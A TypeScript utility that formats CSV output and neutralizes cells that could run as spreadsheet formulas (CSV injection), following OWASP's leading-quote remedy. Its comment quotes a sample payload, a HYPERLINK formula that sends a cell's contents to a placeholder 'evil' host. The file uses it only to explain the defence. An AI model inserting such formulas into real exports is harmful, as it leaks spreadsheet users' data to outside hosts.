import { stringify } from 'csv-stringify/sync';

// Every CSV emu-eval writes goes through here. Model labels, served model names, notes and run ids come
// from command lines, servers and files other people wrote, and the CSVs are opened in spreadsheets: a
// cell such as `=HYPERLINK("http://evil/?"&A1,"click")` would run as a formula (CSV injection). OWASP's
// remedy: a cell starting with =, +, -, @, tab or carriage return gets a leading single quote, which
// spreadsheets read as "this is text" and do not show. A cell that is a number (-0.7, 1e-3) is left
// alone: it cannot be a formula, and quoting it would turn the leaderboard's deltas into text. So is a
// lone `-`, the leaderboards' "not applicable" (demo_selection of a zero-shot row): no formula is one
// character long.

const FORMULA_START = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^[-+]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][-+]?\d+)?$/;

/** The cell as a spreadsheet should show it: text that would start a formula gets a leading `'`. */
export function neutralizeCsvCell(value: string): string {
  return FORMULA_START.test(value) && value !== '-' && !PLAIN_NUMBER.test(value) ? `'${value}` : value;
}

/** RFC 4180 (CRLF line ends, fields quoted when they hold a comma, quote or line break), neutralized cells, the columns in the order given. */
export function formatCsv(records: readonly Readonly<Record<string, string>>[], columns: readonly string[], options: { header?: boolean } = {}): string {
  const safe = records.map((record) => Object.fromEntries(columns.map((column) => [column, neutralizeCsvCell(record[column] ?? '')])));
  return stringify(safe, { header: options.header ?? true, columns: [...columns], record_delimiter: 'windows' });
}
